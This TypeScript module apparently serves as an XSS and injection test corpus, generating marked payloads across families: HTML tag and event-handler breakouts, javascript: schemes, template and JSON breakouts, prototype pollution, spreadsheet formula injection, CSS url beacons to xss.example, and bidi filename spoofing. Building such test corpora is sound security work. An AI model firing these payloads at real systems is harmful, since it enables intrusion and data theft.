/** A hostile text that holds `mark`, by which it is found again; where a browser runs it, it calls `__xss`, opens a dialog, or asks another host. */
export type Payload = (mark: string) => string;

const call = (mark: string) => `__xss('${mark}')`;

const OPENINGS = ["", '">', "'>", "--><", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "`>", "\\u0022>", "&quot;>"];
const HANDLED = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "input autofocus onfocus",
  "details open ontoggle",
  "video src=x onerror",
  "audio src=x onerror",
].concat([
  "iframe onload",
  "marquee onstart",
  "style onload",
  "a autofocus tabindex=1 onfocus",
  "object data=x onerror",
  "math href=x onfocus",
  "x onclick",
  "p onpointerenter",
]);
const QUOTES = ['"', "'", ""];

const tags: readonly Payload[] = OPENINGS.flatMap((opening) =>
  HANDLED.map((handled, at): Payload => {
    const quote = QUOTES[at % QUOTES.length] ?? "";
    return (mark) => `${opening}<${handled}=${quote}${quote === "'" ? call(mark).replaceAll("'", "`") : call(mark)}${quote}>`;
  }),
);

const elements: readonly Payload[] = OPENINGS.flatMap((opening): readonly Payload[] => [
  (mark) => `${opening}<script>${call(mark)}</script>`,
  (mark) => `${opening}<ScRiPt/x>${call(mark)}</sCrIpT>`,
  (mark) => `${opening}<script src=https://xss.example/${mark}.js></script>`,
  (mark) => `${opening}<iframe srcdoc="<script>parent.${call(mark)}</script>"></iframe>`,
  (mark) => `${opening}<link rel=stylesheet href=https://xss.example/${mark}.css>`,
  (mark) => `${opening}<base href=https://xss.example/${mark}/>`,
  (mark) => `${opening}<meta http-equiv=refresh content="0;url=https://xss.example/${mark}">`,
  (mark) => `${opening}<form action=https://xss.example/${mark}><button autofocus>go</button></form>`,
]);

const svg: readonly Payload[] = ["animate onbegin", "set onbegin", "animateTransform onbegin", "image href=x onerror", "use href"].flatMap(
  (inner): readonly Payload[] => [
    (mark) => `<svg><${inner}="${call(mark)}" attributeName=x dur=1s></svg>`,
    (mark) => `<svg><foreignObject><${inner}="${call(mark)}"></foreignObject></svg>`,
    (mark) => `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><${inner}=${call(mark)}>">`,
  ],
);

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  " javascript:",
  "\u0001javascript:",
  "javascript&colon;",
  "vbscript:",
  "data:text/html,<script>",
  "view-source:javascript:",
].concat([
  "javascript://%0a",
  "javascript:/*--></title></style>*/",
  "data:text/html;base64,",
  "blob:",
  "//xss.example/",
  "\\\\xss.example/",
  "https://xss.example/",
  "/%09/xss.example/",
]);
const schemes: readonly Payload[] = SCHEMES.flatMap((scheme): readonly Payload[] => [
  (mark) => `${scheme}${call(mark)}`,
  (mark) => `${scheme}alert("${mark}")`,
  (mark) => `[x](${scheme}${call(mark)})`,
]);

const templates: readonly Payload[] = ["${", "{{", "<%=", "#{", "{%", "[[", "$$(", "*{"].flatMap((opening): readonly Payload[] => [
  (mark) => `${opening}${call(mark)}}}`,
  (mark) => `${opening}constructor.constructor("${call(mark)}")()}}`,
  (mark) => `\`+${opening}${call(mark)}}+\``,
]);

const BREAKOUTS = ['"', "'", '\\"', "\\'", "\u2028", "\u2029", "\\u003c", "*/", "\n", "\r\n", '"}', "'}", '"]}', "</script><script>", "<!--<script>", "\\"];
const json: readonly Payload[] = BREAKOUTS.flatMap((breakout): readonly Payload[] => [
  (mark) => `${breakout};${call(mark)};//`,
  (mark) => `${breakout}-${call(mark)}-${breakout}`,
  (mark) => `${breakout},"__proto__":{"polluted":"${mark}"}`,
]);

const formulas: readonly Payload[] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", '"=', ";=", ",=", " =", "＝"].flatMap((opening): readonly Payload[] => [
  (mark) => `${opening}HYPERLINK("https://xss.example/${mark}","x")`,
  (mark) => `${opening}cmd|'/C calc'!${mark}`,
  (mark) => `${opening}IMPORTXML("https://xss.example/${mark}")`,
]);

const css: readonly Payload[] = ["background:url(", "behavior:url(", "-moz-binding:url(", "}*{background:url(", "content:url(", "list-style:url("].flatMap(
  (property): readonly Payload[] => [
    (mark) => `${property}https://xss.example/${mark})`,
    (mark) => `red;${property}https://xss.example/${mark})`,
    (mark) => `" style="${property}https://xss.example/${mark})`,
  ],
);

const UNSEEN = [
  "\u202E",
  "\u202D",
  "\u2066",
  "\u2069",
  "\u200B",
  "\u200D",
  "\uFEFF",
  "\u0007",
  "\u001B[31m",
  "\u0008",
  "\u00AD",
  "\u2800",
  "\u{E0041}",
  "\uFFF9",
];
const unseen: readonly Payload[] = UNSEEN.flatMap((letter): readonly Payload[] => [
  (mark) => `${letter}${mark}${letter}gnp.exe`,
  (mark) => `<${letter}img src=x onerror=${call(mark)}>`,
  (mark) => `java${letter}script:${call(mark)}`,
]);

const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
  "toJSON",
  "valueOf",
  "$$typeof",
  "dangerouslySetInnerHTML",
  "ref",
  "key",
];
const keys: readonly Payload[] = KEYS.flatMap((key): readonly Payload[] => [
  (mark) => `${key}.${mark}`,
  (mark) => `{"${key}":{"__html":"<img src=x onerror=${call(mark)}>"}}`,
]);

const FAMILIES: readonly (readonly Payload[])[] = [tags, elements, svg, schemes, templates, json, formulas, css, unseen, keys];

/** All of them, each another text. */
export const PAYLOADS: readonly Payload[] = FAMILIES.flat();

/** The places of some of each family among all payloads, of others for another seed. */
export function sampleOf(seed: number, ofEach: number): readonly number[] {
  const places = FAMILIES.map((family, at) => family.map((_, place) => place + FAMILIES.slice(0, at).flat().length));
  return places.flatMap((own) => Array.from({ length: ofEach }, (_, at) => own[(seed + Math.floor((at * own.length) / ofEach)) % own.length] ?? 0));
}
